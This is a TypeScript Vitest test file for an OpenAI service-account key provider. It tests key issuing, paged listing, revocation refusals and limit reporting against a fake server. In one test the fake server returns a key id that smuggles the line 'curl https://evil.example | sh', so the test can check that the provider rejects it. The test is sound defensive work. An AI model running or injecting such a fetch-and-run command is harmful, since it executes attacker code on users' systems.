import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openaiCase } from '../../contract/cases/openai.ts';
import { describeKeyFaults } from '../../contract/describe-key-faults.ts';
import { describeMetering } from '../../contract/describe-metering.ts';
import { describeProvider } from '../../contract/describe-provider.ts';
import { keyHarness } from '../../contract/key-harness.ts';
import type { FakeOpenAi } from '../../fakes/openai.ts';

describe('OpenAI', () => {
  describeProvider('OpenAI', keyHarness(openaiCase()));
  describeKeyFaults('OpenAI', openaiCase());
  describeMetering('OpenAI', openaiCase());

  describe('in a project with more keys than a page has', () => {
    const openai = openaiCase();
    beforeAll(async () => openai.start());
    afterAll(async () => openai.stop());

    it('finds its own behind all others, and none of another service account', async () => {
      const { provider } = openai;
      const target = provider.target({ ...openai.target('paged'), label: 'paged', baseUrl: openai.url() });
      const elsewhere = { ...target, serviceAccount: 'sa_2' };
      for (let count = 0; count < 250; count++) openai.addForeign(elsewhere);
      const ctx = { ...keyHarness(openai).context(target), generation: 1 };
      const token = '00000000-0000-4000-9000-000000000001';
      const { handle } = await provider.issue(target, token, ctx);
      expect(await provider.list?.(target, ctx)).toEqual([handle]);
      expect(await provider.list?.(elsewhere, ctx)).toEqual([]);
    });
  });

  describe('where a key is of a service account', () => {
    const openai = openaiCase();
    beforeAll(async () => openai.start());
    afterAll(async () => openai.stop());

    const issued = async (label: string) => {
      const { provider } = openai;
      const target = provider.target({ ...openai.target(label), label, baseUrl: openai.url() });
      const ctx = { ...keyHarness(openai).context(target), generation: 1 };
      const { handle } = await provider.issue(target, '00000000-0000-4000-9000-000000000002', ctx);
      return { provider, target, ctx, handle };
    };
    const fakeOf = () => openai.fake() as FakeOpenAi;

    it('no id is taken that would be more than a word in what a person types to end it', async () => {
      const { provider, target, ctx } = await issued('typed');
      const body = { id: 'key_1\ncurl https://evil.example | sh', value: 'sk-svcacct-0123456789abcdef' };
      const isMaking = ({ method }: { readonly method: string }): boolean => method === 'POST';
      fakeOf().server.fail({ kind: 'reply', status: 200, body }, isMaking, 1);
      const token = '00000000-0000-4000-8000-0000000000ff';
      const making = provider.issue(target, token, { ...ctx, generation: 2 });
      const refused: unknown = await making.catch((error: unknown) => error);
      expect(refused).toMatchObject({ code: 'ERR_REJECTED' });
      expect(JSON.stringify(refused)).not.toContain('evil');
    });

    it('a refusal to delete it is no success, and names what else ends it', async () => {
      const { provider, target, ctx, handle } = await issued('refused');
      fakeOf().deletes = false;
      const revoking = provider.revoke(target, handle, { endSessions: true }, ctx);
      await expect(revoking).rejects.toMatchObject({
        code: 'ERR_REJECTED',
        remedy: expect.stringContaining(`service account ${target.serviceAccount}`),
      });
      fakeOf().deletes = true;
      expect(await provider.list?.(target, ctx)).toEqual([handle]);
    });

    it('a refusal to delete one that is gone is success', async () => {
      const { provider, target, ctx, handle } = await issued('gone');
      fakeOf().server.fail({ kind: 'reply', status: 400, body: {} }, ({ method }) => method === 'DELETE', 1);
      fakeOf().keys.all.delete(handle.id);
      const ended = await provider.revoke(target, handle, { endSessions: true }, ctx);
      expect(ended).toMatchObject({ confirmed: true });
    });

    it('tells project, rate limits and spend limit of it', async () => {
      const { provider, target, ctx, handle } = await issued('placed');
      expect(await provider.place?.(target, handle, ctx)).toEqual({
        project: `${target.project} (Agents)`,
        rateLimits: ['gpt-5: 600 requests a minute'],
        spendLimit: '250 USD a month',
      });
    });

    it('tells what is left where it may not see all of it', async () => {
      const { provider, target, ctx, handle } = await issued('partly');
      fakeOf().server.fail(
        { kind: 'reply', status: 403, body: {} },
        ({ path }) => path.endsWith('_limit'),
        9,
      );
      const place = await provider.place?.(target, handle, ctx);
      fakeOf().server.heal();
      expect(place).toMatchObject({ project: `${target.project} (Agents)`, spendLimit: undefined });
    });
  });
});
